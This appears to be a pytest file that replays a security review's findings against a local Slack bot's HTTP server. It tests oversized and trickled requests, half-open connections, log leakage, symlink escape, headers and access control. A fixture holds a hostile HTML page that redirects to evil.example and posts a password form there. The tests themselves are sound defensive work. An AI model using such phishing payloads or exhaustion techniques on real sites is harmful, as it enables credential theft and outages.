"""The security review's attacks on the HTTP surface, replayed over real HTTP on 127.0.0.1 against the real app.

Each test is one finding of issue 11: it failed on the code the review was done
on and passes now. Bounded: at most 20 MB sent, 200 sockets, about 15 s each.
"""
from __future__ import annotations

import base64
import contextlib
import logging
import os
import shutil
import sys
import time
from dataclasses import replace

import pytest

from bot.settings import BotSettings
from index import library
from index.corpus import Corpus
from index.service import SummitIndex, build

from .conftest import ROOT, cli_env
from .slackbot import BOT_TOKEN, SIGNING_SECRET, RunningBot, free_port, post, running_bot, signature
from .test_refresh import PAGE_ONE, PAGE_TWO, make_pdf
from .test_serve_process import start, stop, wait_healthy

sys.path.insert(0, str(ROOT / "bench"))
from http_attacks import MB, RssSampler, chunked, get, half_open, raw_request, trickle  # noqa: E402

pytestmark = pytest.mark.slow

HEAD_TIMEOUT = 5.0  # what the review asked for: half-open heads closed "after a few seconds"
BODY_TIMEOUT = 10.0
MARKER = "LEAK-MARKER-7f3a9c"
JSON = {"Content-Type": "application/json"}


@pytest.fixture(scope="module")
def bot(slack, service, built, tmp_path_factory):
    with running_bot(slack, service, built, tmp_path_factory.mktemp("db") / "records.sqlite3", "http") as running:
        yield running


class Captured(logging.Handler):
    """Every record that reaches the loggers a deployment shows (root, uvicorn's, Bolt's), with tracebacks."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []
        self.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)

    @property
    def text(self) -> str:
        return "\n".join(self.format(r) for r in self.records)


@contextlib.contextmanager
def captured_logs():
    handler, bolt = Captured(), logging.getLogger("slack_bolt")
    level = bolt.level
    bolt.setLevel(logging.INFO)  # what `summitbot serve` logs at
    for name in ("", "uvicorn"):
        logging.getLogger(name).addHandler(handler)
    try:
        yield handler
    finally:
        for name in ("", "uvicorn"):
            logging.getLogger(name).removeHandler(handler)
        bolt.setLevel(level)


# --- 3: bodies over the limit are refused before they are buffered -------------------------------------------

def test_a_declared_800_mb_body_is_refused_at_once(bot):
    headers = {**JSON, "Content-Length": str(800 * MB)}
    with RssSampler(os.getpid()) as rss:
        reply = raw_request(bot.url, "POST", "/slack/events", headers, [b"{" * 1000], timeout=5.0)
    assert reply.status == 413 and reply.seconds < 2, reply
    assert rss.growth_mb < 20
    assert get(bot.url + "/healthz")[0] == 200


def test_a_chunked_body_past_the_limit_is_cut_off_without_buffering_it(bot):
    with RssSampler(os.getpid()) as rss:
        reply = raw_request(bot.url, "POST", "/slack/events", {**JSON, "Transfer-Encoding": "chunked"},
                            chunked(20 * MB), timeout=10.0)
    assert reply.status == 413, reply
    # the server answered and closed after ~1 MB: what the client got in before that sat in socket buffers
    assert reply.sent < 12 * MB, f"{reply.sent / MB:.1f} MB were taken"
    assert rss.growth_mb < 10, f"RSS grew {rss.growth_mb} MB"
    assert get(bot.url + "/healthz")[0] == 200


def test_a_declared_body_over_the_limit_is_refused_on_every_route(bot):
    for path in ("/", "/healthz", "/static/style.css", "/no-such-route"):
        reply = raw_request(bot.url, "GET", path, {"Content-Length": str(2 * MB)}, [b"x" * 100], timeout=5.0)
        assert reply.status == 413 and reply.seconds < 2, (path, reply)


# --- 12: slow clients -------------------------------------------------------------------------------------------

def test_half_open_request_heads_are_closed_while_others_are_answered(bot):
    result = half_open(bot.url, count=200, wait=HEAD_TIMEOUT + 10)
    assert result["opened"] == 200
    assert result["normal_status"] == 200 and result["normal_seconds"] < 2, result
    assert result["closed"] == 200, result
    assert result["longest_seconds"] <= HEAD_TIMEOUT + 3, result


def test_a_body_trickled_in_is_cut_off(bot):
    reply = raw_request(bot.url, "POST", "/slack/events", {**JSON, "Content-Length": "100"}, trickle(100, 0.25),
                        timeout=BODY_TIMEOUT + 10)
    assert reply.status == 408 and reply.seconds < BODY_TIMEOUT + 3, reply
    assert reply.sent < 100


# --- 9: malformed timestamps ------------------------------------------------------------------------------------

@pytest.mark.parametrize("timestamp", ["abc", "9" * 5000, "", "-1", "1.7e9", "１７００００００００", " 1700000000"])
def test_a_malformed_slack_timestamp_gets_401_and_no_traceback(bot, timestamp):
    body = b'{"type": "url_verification", "challenge": "c"}'
    headers = {**JSON, "X-Slack-Request-Timestamp": timestamp, "X-Slack-Signature": signature(body, timestamp)}
    with captured_logs() as logs:
        reply = raw_request(bot.url, "POST", "/slack/events", {**headers, "Content-Length": str(len(body))}, [body])
    assert reply.status == 401, reply
    assert "Traceback" not in logs.text and not any(r.exc_info for r in logs.records), logs.text


# --- 12: headers on every response ------------------------------------------------------------------------------

def assert_hardened(headers: dict[str, str], what: str) -> None:
    assert headers.get("x-frame-options") == "DENY", what
    assert "frame-ancestors 'none'" in headers.get("content-security-policy", ""), what
    assert headers.get("x-content-type-options") == "nosniff", what
    assert "server" not in headers, what


def test_security_headers_on_every_response(bot, service):
    passage = service.document_passages("summit08-ota")[0]
    for path, status in (("/", 200), (f"/p/{passage.id}", 200), ("/healthz", 200), ("/static/style.css", 200),
                         ("/static/nothing.css", 404), ("/no-such-page", 404), ("/slack/events", 405),
                         ("/d/summit08-ota/source", 200)):
        got, headers, _ = get(bot.url + path)
        assert got == status, path
        assert_hardened(headers, path)
    assert "default-src 'self'" in get(bot.url + "/")[1]["content-security-policy"]  # the pages' own policy stays
    refused = raw_request(bot.url, "POST", "/slack/events", {**JSON, "Content-Length": str(800 * MB)}, [b"{"])
    unsigned = raw_request(bot.url, "POST", "/slack/events", {**JSON, "Content-Length": "2"}, [b"{}"])
    for reply in (refused, unsigned):
        assert reply.status in (413, 401)
        assert_hardened(reply.headers, str(reply.status))


# --- 15: Bolt does not log request bodies -----------------------------------------------------------------------

def test_request_bodies_never_reach_the_log(bot):
    payload = ('{"type": "dialog_submission", "callback_id": "cb", "team": {"id": "T0001"}, "user": {"id": "U0001"},'
               f' "channel": {{"id": "C0001"}}, "submission": {{"note": "{MARKER}"}}, "token": "x"}}')
    form = ("payload=" + payload).encode()
    with captured_logs() as logs:
        unhandled = post(bot.url + "/slack/events", form, content_type="application/x-www-form-urlencoded")[0]
        unsigned = post(bot.url + "/slack/events", form, content_type="application/x-www-form-urlencoded",
                        sign=False)[0]
        time.sleep(0.5)
    assert unhandled == 404 and unsigned == 401
    assert "Unhandled request" in logs.text  # the reason is still logged
    assert MARKER not in logs.text, logs.text


# --- 11 and 13: originals and sources served safely -------------------------------------------------------------

HOSTILE_HTML = """<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<script>document.location = "https://evil.example/"</script></head><body>
<form action="https://evil.example/login" method="post"><input type="password" name="pw"></form>
{paragraphs}
</body></html>"""


@pytest.fixture(scope="module")
def curated(built, embedder, tmp_path_factory):
    """A copy of the corpus with an uploaded HTML and PDF original, and a source symlinked out of the corpus."""
    base = tmp_path_factory.mktemp("originals")
    shutil.copytree(ROOT / "corpus", base / "corpus")
    shutil.copytree(built.index_dir, base / "index")
    settings = replace(built, corpus_dir=base / "corpus", index_dir=base / "index")
    html = base / "upload.html"
    html.write_text(HOSTILE_HTML.format(paragraphs="".join(f"<p>{line}</p>\n" for line in PAGE_ONE + PAGE_TWO)),
                    encoding="utf-8")
    pdf = make_pdf(base / "upload.pdf")
    for file, summit, host in ((html, 10, "岡谷市"), (pdf, 11, "川口市")):
        corpus = Corpus.load(settings.corpus_dir)
        library.add(corpus, library.prepare(corpus, file, summit, title="テスト宣言", host_city=host))
    build(settings, progress=False, embedder=embedder)
    index = SummitIndex.open(settings)
    secret = base / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(f"{MARKER} not part of the corpus\n", encoding="utf-8")
    source = settings.corpus_dir / index.document("summit08-ota").file
    source.unlink()
    source.symlink_to(secret)
    with RunningBot(BotSettings(index=settings), index, base / "records.sqlite3") as running:
        yield running, index


def key_of(index, summit: int) -> str:
    return next(d.key for d in index.data.documents.values() if d.summit == summit)


def test_an_uploaded_html_original_is_only_a_download(curated):
    bot, index = curated
    key = key_of(index, 10)
    status, headers, body = get(f"{bot.url}/d/{key}/original")
    assert status == 200 and body == index.original_path(key).read_bytes()
    assert "html" not in headers["content-type"] and headers["content-type"].startswith("application/octet-stream")
    assert headers["content-disposition"].startswith("attachment")
    assert headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in headers["content-security-policy"]


def test_a_pdf_original_stays_inline_but_sandboxed(curated):
    bot, index = curated
    status, headers, body = get(f"{bot.url}/d/{key_of(index, 11)}/original")
    assert status == 200 and body.startswith(b"%PDF")
    assert headers["content-type"] == "application/pdf"
    assert not headers.get("content-disposition", "inline").startswith("attachment")
    assert headers["content-security-policy"].split(";")[0].strip() == "sandbox"
    assert_hardened(headers, "pdf")


def test_a_source_symlinked_out_of_the_corpus_is_not_served(curated):
    bot, _ = curated
    status, _, body = get(f"{bot.url}/d/summit08-ota/source")
    assert status == 404 and MARKER.encode() not in body
    assert get(f"{bot.url}/d/summit09-sumida/source")[0] == 200  # a source inside the corpus still is


# --- 16: who may see the pages ----------------------------------------------------------------------------------

def pages_bot(slack, built, service, tmp_path, **env: str) -> RunningBot:
    """The bot in HTTP mode, configured from the environment as `summitbot serve` is."""
    env = {"SLACK_BOT_TOKEN": BOT_TOKEN, "SLACK_SIGNING_SECRET": SIGNING_SECRET, "SLACK_API_URL": slack.api_url, **env}
    return RunningBot(replace(BotSettings.from_env(env), index=built), service, tmp_path / "records.sqlite3")


def from_address(url: str, source: str, path: str, headers: dict[str, str] | None = None) -> int | None:
    return raw_request(url, "GET", path, headers or {}, source=source).status


def test_pages_refused_outside_the_allowed_networks(slack, built, service, tmp_path):
    with pages_bot(slack, built, service, tmp_path, SUMMITBOT_PAGES_ALLOW="10.0.0.0/8, 192.168.0.0/16") as bot:
        for path in ("/", "/p/s9-0000000000", "/d/summit08-ota", "/d/summit08-ota/source", "/static/style.css"):
            status, headers, body = get(bot.url + path)
            assert status == 403 and MARKER not in body.decode(), path
            assert_hardened(headers, path)
        assert get(bot.url + "/healthz")[0] == 200
        verification = b'{"type": "url_verification", "challenge": "abc123", "token": "x"}'
        assert post(bot.url + "/slack/events", verification)[0] == 200


def test_pages_served_to_an_allowed_address_only(slack, built, service, tmp_path):
    with pages_bot(slack, built, service, tmp_path, SUMMITBOT_PAGES_ALLOW="127.0.0.2/32") as bot:
        assert from_address(bot.url, "127.0.0.2", "/") == 200
        assert from_address(bot.url, "127.0.0.2", "/static/style.css") == 200
        assert from_address(bot.url, "127.0.0.1", "/") == 403
        assert from_address(bot.url, "127.0.0.1", "/healthz") == 200


def basic(user: str, password: str) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()}


def test_pages_behind_a_shared_password(slack, built, service, tmp_path):
    with pages_bot(slack, built, service, tmp_path, SUMMITBOT_PAGES_PASSWORD="correct horse") as bot:
        status, headers, _ = get(bot.url + "/")
        assert status == 401 and headers["www-authenticate"].startswith("Basic")
        assert get(bot.url + "/", headers=basic("staff", "wrong horse"))[0] == 401
        assert get(bot.url + "/", headers={"Authorization": "Basic !!not base64!!"})[0] == 401
        assert get(bot.url + "/", headers=basic("staff", "correct horse"))[0] == 200
        assert get(bot.url + "/static/style.css", headers=basic("anyone", "correct horse"))[0] == 200
        assert get(bot.url + "/static/style.css")[0] == 401
        assert get(bot.url + "/healthz")[0] == 200


# --- 12: `summitbot serve` itself runs with the same protections -------------------------------------------------

def test_summitbot_serve_hides_its_server_and_closes_half_open_heads(built, tmp_path):
    port = free_port()
    env = cli_env(built, SUMMITBOT_DB=str(tmp_path / "records.sqlite3"))
    for name in ("SLACK_BOT_TOKEN", "SLACK_APP_TOKEN", "SLACK_SIGNING_SECRET"):
        env.pop(name, None)
    process = start(env, port)
    try:
        wait_healthy(process, port)
        url = f"http://127.0.0.1:{port}"
        _, headers, _ = get(url + "/healthz")
        result = half_open(url, count=20, wait=HEAD_TIMEOUT + 10)
        reply = raw_request(url, "POST", "/slack/events", {**JSON, "Content-Length": str(800 * MB)}, [b"{"])
    finally:
        output = stop(process)
    assert_hardened(headers, "serve /healthz")
    assert result["closed"] == 20 and result["longest_seconds"] <= HEAD_TIMEOUT + 3, result
    assert reply.status == 413
    assert "Traceback" not in output
